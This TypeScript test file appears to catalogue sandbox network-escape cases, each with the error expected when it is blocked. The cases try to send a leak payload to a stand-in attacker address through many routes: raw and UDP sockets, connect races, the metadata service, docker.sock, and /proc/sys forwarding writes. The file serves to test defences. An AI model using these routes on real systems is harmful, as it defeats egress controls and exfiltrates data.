import type { Attack } from '../attack.ts';
import { numbered } from './steps.ts';

const EVIL = '203.0.113.66';
const ALLOWED = '203.0.113.10';
const call = (...args: readonly string[]): Attack['step'] => ({ kind: 'call', args });
const NO_FAMILY = ['EAFNOSUPPORT', 'EPERM'];
const DENIED = ['EACCES', 'EPERM'];
/** Where there is no network namespace, the socket itself is refused. */
const NO_SOCKET = { stopped: ['EPERM', 'EACCES'] } as const;

/** Past the proxy, by system calls. */
export const kernel: readonly Attack[] = numbered('K', 'kernel', [
  { what: 'connect(2) to another host', step: call('connect', EVIL, '443', '{LEAK}'), stopped: 'EACCES' },
  {
    what: 'connect(2) to another port of the allowed address',
    step: call('connect', ALLOWED, '22', '{LEAK}'),
    stopped: 'EACCES',
  },
  { what: 'connect(2) to the metadata service', step: call('connect', '169.254.169.254', '443', '{LEAK}'), stopped: 'EACCES' },
  {
    what: 'connect(2) to the metadata service, port 80',
    step: call('connect', '169.254.169.254', '80', 'GET /{LEAK} HTTP/1.1\r\nHost: x\r\n\r\n'),
    stopped: 'network.metadata',
  },
  { what: 'connect(2) to IPv6', step: call('connect', '2001:db8::66', '443', '{LEAK}'), stopped: 'EACCES' },
  {
    what: 'connect(2) to an address mapped into IPv6',
    step: call('connect', `::ffff:${EVIL}`, '443', '{LEAK}'),
    stopped: 'EACCES',
  },
  {
    what: "connect(2) to the host's loopback",
    step: call('connect', '127.0.0.1', '443', '{LEAK}'),
    stopped: ['ECONNREFUSED', 'EACCES'],
  },
  {
    what: "connect(2) to the host's loopback, IPv6",
    step: call('connect', '::1', '443', '{LEAK}'),
    stopped: ['ECONNREFUSED', 'EACCES'],
  },
  { what: 'connect(2) to 0.0.0.0', step: call('connect', '0.0.0.0', '443', '{LEAK}'), stopped: ['ECONNREFUSED', 'EACCES'] },
  {
    what: 'connect(2) to an address that no name was given',
    step: call('connect', '198.19.200.200', '80', '{LEAK}'),
    stopped: 'EACCES',
  },
  {
    what: "connect(2) to the proxy's listener",
    step: call('connect', '198.18.0.1', '1', '{LEAK}'),
    stopped: ['closed', 'reset', 'EACCES', 'EPIPE'],
  },
  {
    what: "connect(2) to the proxy's listener by the cage's loopback",
    step: call('connect', '127.0.0.1', '1', '{LEAK}'),
    stopped: ['no answer', 'closed', 'reset', 'EACCES'],
  },
  {
    what: 'two threads change the address under connect(2)',
    step: call('race', ALLOWED, '9000', EVIL, '443', 'x{LEAK}'),
    stopped: 'raced',
  },
  {
    what: "the same with the host's loopback",
    step: call('race', ALLOWED, '9000', '127.0.0.1', '443', 'x{LEAK}'),
    stopped: 'raced',
  },
  { what: 'another socket takes the descriptor under connect(2)', step: call('swap', EVIL, '443', '{LEAK}'), stopped: 'swapped' },
  {
    what: 'an allowed connection is dissolved and made anew',
    step: call('again', ALLOWED, '9000', EVIL, '443', '{LEAK}'),
    stopped: 'EACCES',
  },
  {
    what: 'data in the first packet, sendto(2)',
    step: call('fast-open', 'sendto', EVIL, '443', '{LEAK}'),
    stopped: ['ENETUNREACH', ...DENIED],
  },
  {
    what: 'data in the first packet, sendmsg(2)',
    step: call('fast-open', 'sendmsg', EVIL, '443', '{LEAK}'),
    stopped: ['ENETUNREACH', ...DENIED],
  },
  {
    what: 'data in the first packet, sendmmsg(2)',
    step: call('fast-open', 'sendmmsg', EVIL, '443', '{LEAK}'),
    stopped: ['ENETUNREACH', ...DENIED],
  },
  {
    what: 'data in the first packet, by a socket option',
    step: call('fast-open', 'option', EVIL, '443', '{LEAK}'),
    stopped: 'EACCES',
  },
  {
    what: "data in the first packet to the proxy's listener",
    step: call('fast-open', 'sendto', '198.18.0.1', '1', 'CONNECT evil.test:80 HTTP/1.1\r\n\r\n'),
    stopped: ['sent 33', ...DENIED],
  },
  { what: 'MPTCP to another host', step: call('mptcp', EVIL, '443', '{LEAK}'), stopped: ['EACCES', 'EPROTONOSUPPORT'] },
  { what: 'SMC to another host', step: call('smc', EVIL, '443', '{LEAK}'), stopped: ['EACCES', 'EPROTONOSUPPORT', 'EPERM'] },
  {
    what: 'SCTP, connected by a socket option',
    step: call('sctp', EVIL, '443', '{LEAK}'),
    stopped: 'EPROTONOSUPPORT',
  },
  {
    what: 'DCCP to another host',
    step: call('dccp', EVIL, '443', '{LEAK}'),
    stopped: 'EPROTONOSUPPORT',
  },
  { what: 'UDP, sendto(2)', step: call('udp', 'sendto', EVIL, '443', '{LEAK}'), stopped: 'ENETUNREACH', landlock: NO_SOCKET },
  { what: 'UDP, sendmsg(2)', step: call('udp', 'sendmsg', EVIL, '443', '{LEAK}'), stopped: 'ENETUNREACH', landlock: NO_SOCKET },
  { what: 'UDP, sendmmsg(2)', step: call('udp', 'sendmmsg', EVIL, '443', '{LEAK}'), stopped: 'ENETUNREACH', landlock: NO_SOCKET },
  {
    what: 'UDP, connect(2) and write(2) (QUIC)',
    step: call('udp', 'connect', ALLOWED, '443', '{LEAK}'),
    stopped: 'ENETUNREACH',
    landlock: NO_SOCKET,
  },
  {
    what: "UDP to the host's loopback",
    step: call('udp', 'sendmsg', '127.0.0.1', '443', '{LEAK}'),
    stopped: 'sent',
    landlock: NO_SOCKET,
  },
  {
    what: 'UDP to a synthetic address',
    step: call('udp', 'sendto', '198.18.1.0', '443', '{LEAK}'),
    stopped: 'sent',
    landlock: NO_SOCKET,
  },
  {
    what: 'UDP to everybody (broadcast)',
    step: call('udp', 'sendto', '255.255.255.255', '443', '{LEAK}'),
    stopped: ['ENETUNREACH', 'EACCES'],
    landlock: NO_SOCKET,
  },
  {
    what: 'UDP to a group (multicast)',
    step: call('udp', 'sendmsg', '224.0.0.251', '5353', '{LEAK}'),
    stopped: 'ENETUNREACH',
    landlock: NO_SOCKET,
  },
  {
    what: 'UDP-Lite',
    step: call('udplite', EVIL, '443', '{LEAK}'),
    stopped: 'EPROTONOSUPPORT',
  },
  { what: 'ICMP', step: call('ping', EVIL, '{LEAK}'), stopped: ['EACCES', 'ENETUNREACH'], landlock: NO_SOCKET },
  {
    what: 'ICMP over IPv6',
    step: call('ping', '2001:db8::66', '{LEAK}'),
    stopped: ['EACCES', 'ENETUNREACH'],
    landlock: NO_SOCKET,
  },
  { what: 'a raw socket for ICMP', step: call('raw', EVIL, '1', '{LEAK}'), stopped: 'EPERM' },
  { what: 'a raw socket for TCP', step: call('raw', EVIL, '6', '{LEAK}'), stopped: 'EPERM' },
  { what: 'a raw socket for another protocol', step: call('raw', EVIL, '253', '{LEAK}'), stopped: 'EPROTONOSUPPORT' },
  { what: 'a packet socket', step: call('packet', '{LEAK}'), stopped: NO_FAMILY },
  { what: 'a socket of the hypervisor (vsock)', step: call('vsock', '{LEAK}'), stopped: NO_FAMILY },
  {
    what: 'the families CAN, Bluetooth, TIPC, RDS, ALG, NFC, QIPCRTR, SMC, XDP',
    step: { kind: 'shell', needs: 'sh', command: 'for f in 29 31 30 21 38 39 42 43 44; do ./attack family $f 5; done | sort -u' },
    stopped: 'EAFNOSUPPORT',
  },
  { what: 'netlink: firewall', step: call('netlink', '12'), stopped: NO_FAMILY },
  { what: 'netlink: generic', step: call('netlink', '16'), stopped: NO_FAMILY },
  { what: 'netlink: events of devices', step: call('netlink', '15'), stopped: NO_FAMILY },
  { what: 'netlink: socket diagnosis', step: call('netlink', '4'), stopped: NO_FAMILY },
  { what: 'a route of its own', step: call('route'), stopped: ['EPERM', 'EACCES'] },
  { what: 'an address of its own', step: call('address'), stopped: 'EPERM' },
  { what: 'a tunnel device', step: call('tunnel'), stopped: ['ENOENT', 'EACCES', 'EPERM'] },
  { what: 'a network namespace of its own', step: call('namespace'), stopped: 'EPERM' },
  { what: 'a user namespace with a network of its own', step: call('user-namespace'), stopped: 'EPERM' },
  { what: 'the namespace of another process', step: call('enter'), stopped: ['EPERM', 'EACCES'] },
  { what: 'io_uring, whose connect(2) no filter sees', step: call('uring'), stopped: 'EPERM' },
  { what: 'the 32-bit table of calls', step: call('compat'), stopped: ['SIGSYS', 'skipped'] },
  { what: 'a socket of another process (pidfd_getfd)', step: call('steal', '{LEAK}'), stopped: ['EPERM', 'ESRCH'] },
  { what: 'sockets that the caller had open', step: call('inherited', '{LEAK}'), stopped: '0 inherited sockets' },
  {
    what: 'an abstract socket of the host',
    step: call('unix', '@sallyport-egress', '{LEAK}'),
    stopped: ['ECONNREFUSED', ...DENIED],
  },
  {
    what: 'an abstract datagram socket of the host',
    step: call('unix-datagram', 'sendmsg', '@sallyport-egress-datagram', '{LEAK}'),
    stopped: ['ECONNREFUSED', ...DENIED],
  },
  {
    what: 'a socket of the host in the workspace',
    step: call('unix', 'host.sock', '{LEAK}'),
    stopped: ['EACCES', 'ECONNREFUSED', 'EPERM'],
  },
  {
    what: 'a datagram socket of the host in the workspace, sendto(2)',
    step: call('unix-datagram', 'sendto', 'datagram.sock', '{LEAK}'),
    stopped: ['ECONNREFUSED', ...DENIED],
  },
  {
    what: 'a datagram socket of the host in the workspace, sendmsg(2)',
    step: call('unix-datagram', 'sendmsg', 'datagram.sock', '{LEAK}'),
    stopped: ['ECONNREFUSED', ...DENIED],
  },
  {
    what: 'the socket of the container daemon',
    step: call('unix', '/var/run/docker.sock', '{LEAK}'),
    stopped: ['ENOENT', 'EACCES'],
  },
  { what: 'the system bus', step: call('unix', '/run/dbus/system_bus_socket', '{LEAK}'), stopped: ['ENOENT', 'EACCES'] },
  {
    what: "the system's log",
    step: call('unix-datagram', 'sendmsg', '/dev/log', '{LEAK}'),
    stopped: ['ENOENT', 'EACCES', 'EPERM'],
  },
  {
    what: 'an offer to the outside: listen(2) after bind(2)',
    step: call('listen', 'bind', '{LEAK}'),
    stopped: 'nobody came',
    landlock: { stopped: ['EACCES', 'EPERM'] },
  },
  {
    what: 'an offer to the outside: listen(2) without bind(2)',
    step: call('listen', 'free', '{LEAK}'),
    stopped: 'nobody came',
    landlock: { stopped: ['EACCES', 'EPERM'] },
  },
  {
    what: 'an offer to the outside: listen(2) by MPTCP',
    step: call('listen', 'mptcp', '{LEAK}'),
    stopped: ['nobody came', 'EPROTONOSUPPORT'],
    landlock: { stopped: ['EACCES', 'EPERM', 'EPROTONOSUPPORT'] },
  },
  {
    what: 'forwarding is switched on',
    step: {
      kind: 'shell',
      needs: 'sh',
      command: 'echo 1 > /proc/sys/net/ipv4/ip_forward; echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start',
    },
    stopped: ['Read-only', 'Permission denied', 'cannot create'],
    landlock: { stopped: ['Permission denied', 'cannot create', 'Operation not permitted'] },
  },
]);
